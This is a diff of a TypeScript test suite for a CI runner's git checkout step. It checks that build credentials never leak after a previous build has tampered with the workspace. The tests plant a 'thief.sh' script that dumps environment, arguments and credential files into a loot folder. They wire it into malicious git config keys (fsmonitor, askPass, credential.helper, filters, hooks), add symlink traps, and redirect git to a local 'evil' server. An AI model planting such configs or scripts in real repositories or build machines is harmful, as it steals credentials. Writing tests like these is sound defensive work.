@@ -1,5 +1,5 @@
 import { execFile, spawn } from 'node:child_process';
-import { mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
+import { chmod, mkdir, mkdtemp, readdir, readFile, rm, symlink, writeFile } from 'node:fs/promises';
 import { createServer, type Server } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { tmpdir } from 'node:os';
@@ -23,6 +23,10 @@ let origin: string;
 let server: Server;
 let url: string;
 const requests: (string | undefined)[] = [];
+/** Another host, which wants to know who asks. */
+let evil: Server;
+let evilUrl: string;
+const evilRequests: { url: string; authorization: string | undefined }[] = [];
 const pools: RunnerPool[] = [];
 
 async function git(...args: string[]): Promise<string> {
@@ -42,8 +46,16 @@ function startForge(): Promise<Server> {
   const wanted = `Basic ${Buffer.from(`ci:${PASSWORD}`).toString('base64')}`;
   const forge = createServer((request, response) => {
     requests.push(request.headers.authorization);
+    if (request.url!.startsWith('/moved-at-once/')) {
+      response.writeHead(302, { location: `${evilUrl}${request.url!}` }).end();
+      return;
+    }
     if (request.headers.authorization !== wanted) {
       response.writeHead(401, { 'www-authenticate': 'Basic realm="git"' }).end();
+      return;
+    }
+    if (request.url!.startsWith('/moved-when-known/')) {
+      response.writeHead(302, { location: `${evilUrl}${request.url!}` }).end();
       return;
     }
     const { pathname, search } = new URL(request.url!, 'http://forge');
@@ -85,10 +97,17 @@ beforeAll(async () => {
   await git('symbolic-ref', 'HEAD', 'refs/heads/main');
   server = await startForge();
   url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/origin`;
+  evil = createServer((request, response) => {
+    const { authorization } = request.headers;
+    evilRequests.push({ url: request.url!, authorization: authorization ?? request.headers['proxy-authorization'] });
+    response.writeHead(401, { 'www-authenticate': 'Basic realm="git"' }).end();
+  });
+  await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve));
+  evilUrl = `http://localhost:${(evil.address() as AddressInfo).port}`;
 });
 afterAll(async () => {
   await Promise.all(pools.map((pool) => pool.close()));
-  await new Promise((resolve) => server.close(resolve));
+  for (const one of [server, evil]) await new Promise((resolve) => one.close(resolve));
   await rm(folder, { recursive: true });
 });
 
@@ -102,7 +121,7 @@ async function poolFor(configFile: string) {
 
 let configs = 0;
 /** Builds of one git step, all in the same folder. */
-async function builderWith(options: string) {
+async function builderWith(options: string, workerEnv: Readonly<Record<string, string>> = {}) {
   const configFile = join(folder, `git${configs++}.config.ts`);
   await writeFile(
     configFile,
@@ -119,7 +138,8 @@ export default defineConfig({
   const build = async (sourceStamp: { branch?: string | null; revision?: string | null } = {}) => {
     const host = new FakeBuildHost();
     const stamp = { branch: null, revision: null, repository: '', project: '', codebase: '', ...sourceStamp };
-    const outcome = await pool.run(jobFor('b', config, folder, { sourceStamp: stamp, builddir }), host).outcome;
+    const worker = { name: 'w', basedir: folder, system: 'posix', environ: {}, env: workerEnv };
+    const outcome = await pool.run(jobFor('b', config, folder, { sourceStamp: stamp, builddir, worker }), host).outcome;
     return { host, outcome, text: (file: string) => readFile(join(workdir, file), 'utf8') };
   };
   return { build, workdir };
@@ -198,7 +218,7 @@ describe('git', () => {
     const { host, outcome } = await build({ branch: 'main' });
     expect(outcome).toMatchObject(SUCCESS);
     expect(requests.filter(Boolean).length).toBeGreaterThan(0);
-    const download = host.requests.find(({ name }) => name === 'download_file')!;
+    const download = host.requests.find(({ args }) => String(args.path as string).endsWith('/credentials'))!;
     expect(download.args.mode).toBe(0o600);
     const shown = JSON.stringify(host.requests.map((request) => ({ ...request, download: null }))) + host.allText;
     for (const secret of ['hunter2', encodeURIComponent(PASSWORD), Buffer.from(`ci:${PASSWORD}`).toString('base64')]) {
@@ -216,10 +236,242 @@ describe('git', () => {
     );
     const { host, outcome } = await wrong.build({ branch: 'main' });
     expect(outcome).toMatchObject({ results: Result.FAILURE });
-    expect(host.events.slice(-2)).toEqual(['command rmfile', 'finish git']);
+    expect(host.events.slice(-3)).toEqual(['command rmfile', 'command rmdir', 'finish git']);
     expect(await readdir(dirname(wrong.workdir))).toEqual(['build']);
     const without = await builderWith(`{ repository: '${url}' }`);
     expect((await without.build({ branch: 'main' })).outcome).toMatchObject({ results: Result.FAILURE });
+  });
+});
+
+describe('the credentials of git, after a build that has left', () => {
+  let loot: string;
+  let home: string;
+  let thief: string;
+  const secrets = () => ['hunter2', encodeURIComponent(PASSWORD), Buffer.from(`ci:${PASSWORD}`).toString('base64')];
+
+  beforeAll(async () => {
+    loot = join(folder, 'loot');
+    thief = join(folder, 'thief.sh');
+    await writeFile(
+      thief,
+      `#!/bin/sh
+mkdir -p '${loot}'
+for d in '${folder}'/*/.millrace-git/repository/.git; do cat '${folder}/included' >> "$d/config"; done
+{ env; cat; echo "$@"; cat '${folder}'/*/.millrace-git/credentials '${folder}'/*/.millrace-git-credentials; } >> '${loot}/'$$ 2>&1 < /dev/null
+exit 0
+`,
+    );
+    await chmod(thief, 0o755);
+    await commit('.gitattributes', '* filter=thief diff=thief\n');
+    await mkdir(join(folder, 'sub'));
+    for (const args of [
+      ['init', '--quiet'],
+      ['symbolic-ref', 'HEAD', 'refs/heads/main'],
+      ['-c', 'user.name=t', '-c', 'user.email=t@example.org', 'commit', '--quiet', '--allow-empty', '-m', 'one'],
+    ])
+      await run('git', ['-C', join(folder, 'sub'), ...args]);
+    // git takes an empty folder for a submodule that is not there yet.
+    await mkdir(join(origin, 'sub'));
+    await commit('.gitmodules', `[submodule "sub"]\n path = sub\n url = ../sub\n`);
+    await moveSubmodule();
+  });
+
+  async function moveSubmodule(): Promise<void> {
+    const sub = ['-C', join(folder, 'sub'), '-c', 'user.name=t', '-c', 'user.email=t@example.org'];
+    await run('git', [...sub, 'commit', '--quiet', '--allow-empty', '-m', 'another']);
+    const { stdout } = await run('git', [...sub, 'rev-parse', 'HEAD']);
+    await git('update-index', '--add', '--cacheinfo', `160000,${stdout.trim()},sub`);
+    await git('commit', '--quiet', '-m', 'a submodule');
+  }
+
+  const attack = (): string => `
+[core]
+  hooksPath = ${join(folder, 'hooks')}
+  fsmonitor = ${thief}
+  sshCommand = ${thief}
+  askPass = ${thief}
+  gitProxy = ${thief}
+  alternateRefsCommand = ${thief}
+  pager = ${thief}
+  editor = ${thief}
+[credential]
+  helper = !${thief}
+[filter "thief"]
+  clean = ${thief}
+  smudge = ${thief}
+[http]
+  extraHeader = X-Was: here
+[uploadpack]
+  packObjectsHook = ${thief}
+[gc]
+  recentObjectsHook = ${thief}
+`;
+  const redirection = (): string => `
+[url "${evilUrl}/"]
+  insteadOf = ${url.slice(0, -'origin'.length)}
+[http]
+  proxy = ${evilUrl}
+  curloptResolve = 127.0.0.1
+`;
+  const hooks = async (where: string): Promise<void> => {
+    await mkdir(where, { recursive: true });
+    for (const name of [
+      'post-checkout',
+      'reference-transaction',
+      'pre-auto-gc',
+      'post-merge',
+      'post-index-change',
+      'fsmonitor-watchman',
+    ])
+      await writeFile(join(where, name), `#!/bin/sh\nexec ${thief} "$@"\n`, { mode: 0o755 });
+  };
+  const append = async (file: string, text: string) =>
+    writeFile(file, `${await readFile(file, 'utf8').catch(() => '')}\n${text}`);
+
+  it.each<[string, (at: { workdir: string; builddir: string }) => Promise<unknown>]>([
+    ['a configuration', ({ workdir }) => append(join(workdir, '.git/config'), attack())],
+    ['a configuration that sends git elsewhere', ({ workdir }) => append(join(workdir, '.git/config'), redirection())],
+    [
+      'a configuration that includes another',
+      async ({ workdir }) => {
+        await append(join(workdir, '.git/config'), `[include]\n path = ${join(folder, 'included')}\n`);
+      },
+    ],
+    ['a configuration in its home', () => writeFile(join(home, '.gitconfig'), attack() + redirection())],
+    [
+      'another configuration in its home',
+      async () => {
+        await mkdir(join(home, '.config/git'), { recursive: true });
+        await writeFile(join(home, '.config/git/config'), attack() + redirection());
+      },
+    ],
+    ['hooks', ({ workdir }) => hooks(join(workdir, '.git/hooks'))],
+    [
+      'a link where the credentials go',
+      ({ builddir }) => symlink(join(folder, 'stolen'), join(builddir, '.millrace-git-credentials')),
+    ],
+    [
+      'a link where the folder goes',
+      async ({ builddir }) => {
+        await mkdir(join(folder, 'stolen'), { recursive: true });
+        await symlink(join(folder, 'stolen'), join(builddir, '.millrace-git'));
+      },
+    ],
+    [
+      'a folder with a link in it',
+      async ({ builddir }) => {
+        await mkdir(join(builddir, '.millrace-git/repository/.git'), { recursive: true });
+        await writeFile(join(builddir, '.millrace-git/.gitconfig'), attack() + redirection());
+        await symlink(join(folder, 'stolen-file'), join(builddir, '.millrace-git/credentials'));
+      },
+    ],
+    [
+      'attributes and alternates',
+      async ({ workdir }) => {
+        await writeFile(join(workdir, '.git/info/attributes'), '* filter=thief\n');
+        await append(join(workdir, '.git/config'), attack());
+        await writeFile(join(workdir, '.git/objects/info/alternates'), `${join(folder, 'nowhere')}\n`);
+      },
+    ],
+    [
+      'a repository elsewhere',
+      async ({ workdir }) => {
+        await rm(join(workdir, '.git'), { recursive: true });
+        await run('git', ['init', '--quiet', '--bare', join(folder, 'elsewhere.git')]);
+        await append(join(folder, 'elsewhere.git/config'), attack() + redirection());
+        await hooks(join(folder, 'elsewhere.git/hooks'));
+        await writeFile(join(workdir, '.git'), `gitdir: ${join(folder, 'elsewhere.git')}\n`);
+      },
+    ],
+    [
+      'hooks and a configuration of a submodule',
+      async ({ workdir }) => {
+        const module = join(workdir, '.git/modules/sub');
+        await mkdir(module, { recursive: true });
+        await append(join(module, 'config'), attack() + redirection());
+        await append(
+          join(workdir, '.git/config'),
+          `[submodule "sub"]\n url = ${evilUrl}/sub\n update = !${thief}\n active = true\n`,
+        );
+        await hooks(join(module, 'hooks'));
+      },
+    ],
+  ])('%s, arrive nowhere else', async (_what, plant) => {
+    home = await mkdtemp(join(folder, 'home-'));
+    await rm(loot, { recursive: true, force: true });
+    await hooks(join(folder, 'hooks'));
+    await writeFile(join(folder, 'included'), attack() + redirection());
+    evilRequests.length = 0;
+    const options = `{ repository: '${url}', submodules: true, tags: true, credentials: { username: 'ci', password: '${PASSWORD}' } }`;
+    const { build, workdir } = await builderWith(options, { HOME: home });
+    await commit('a.txt', `before ${workdir}`);
+    expect((await build({ branch: 'main' })).outcome).toMatchObject(SUCCESS);
+    await plant({ workdir, builddir: dirname(workdir) });
+    await moveSubmodule();
+    const head = await commit('a.txt', `after ${workdir}`);
+    requests.length = 0;
+    const { outcome, host } = await build({ branch: 'main' });
+    // Its user's own configuration may keep git from working at all.
+    if (!(await readdir(home)).length) {
+      expect([outcome, host.logs]).toMatchObject([SUCCESS, expect.anything()]);
+      expect(host.properties.got_revision![0]).toBe(head);
+    }
+    expect(requests.filter(Boolean).length).toBeGreaterThan(0);
+    expect(evilRequests.filter(({ authorization }) => authorization !== undefined)).toEqual([]);
+    for (const where of [loot, home, join(folder, 'stolen'), join(folder, 'stolen-file'), dirname(workdir)]) {
+      const { stdout } = await run('grep', ['-rF', ...secrets().flatMap((secret) => ['-e', secret]), where]).catch(
+        (error: unknown) => error as { stdout: string },
+      );
+      expect([where, stdout]).toEqual([where, '']);
+    }
+  });
+
+  it.each(['moved-at-once', 'moved-when-known'])(
+    'nothing, stay with their host when that redirects: %s',
+    async (path) => {
+      evilRequests.length = 0;
+      const { build } = await builderWith(
+        `{ repository: '${url.replace('origin', path)}/origin', credentials: { username: 'ci', password: '${PASSWORD}' } }`,
+      );
+      expect((await build({ branch: 'main' })).outcome).toMatchObject({ results: Result.FAILURE });
+      expect(evilRequests.length).toBeGreaterThan(0);
+      expect(evilRequests.filter(({ authorization }) => authorization !== undefined)).toEqual([]);
+    },
+  );
+
+  it('nothing, are for submodules of their own host, and not for those of another', async () => {
+    await git('checkout', '--quiet', '-b', 'modules');
+    const options = `{ repository: '${url}', submodules: true, credentials: { username: 'ci', password: '${PASSWORD}' } }`;
+    const own = await builderWith(options);
+    for (const _again of [1, 2]) {
+      requests.length = 0;
+      const { outcome, host } = await own.build({ branch: 'modules' });
+      expect([outcome, host.logs]).toMatchObject([SUCCESS, expect.anything()]);
+      expect(await readdir(join(own.workdir, 'sub'))).toEqual(['.git']);
+    }
+    // The second time everything was there but the branch's head.
+    expect(requests.length).toBeLessThan(6);
+
+    evilRequests.length = 0;
+    await commit('.gitmodules', `[submodule "sub"]\n path = sub\n url = ${evilUrl}/sub\n`);
+    const foreign = await builderWith(options);
+    expect((await foreign.build({ branch: 'modules' })).outcome).toMatchObject({ results: Result.FAILURE });
+    expect(evilRequests.length).toBeGreaterThan(0);
+    expect(evilRequests.filter(({ authorization }) => authorization !== undefined)).toEqual([]);
+    await git('checkout', '--quiet', '--force', 'main');
+  });
+
+  it.each(['1', 'true'])('nothing, fetch a shallow history again and again: %s', async (shallow) => {
+    const { build, workdir } = await builderWith(
+      `{ repository: '${url}', shallow: ${shallow}, credentials: { username: 'ci', password: '${PASSWORD}' } }`,
+    );
+    for (const text of ['one', 'two', 'three']) {
+      const head = await commit('a.txt', `${text} ${workdir}`);
+      const { host } = await build({ branch: 'main' });
+      expect(host.properties.got_revision![0]).toBe(head);
+      const { stdout } = await run('git', ['-C', workdir, 'rev-list', '--count', 'HEAD']);
+      expect(stdout.trim()).toBe('1');
+    }
   });
 });
 
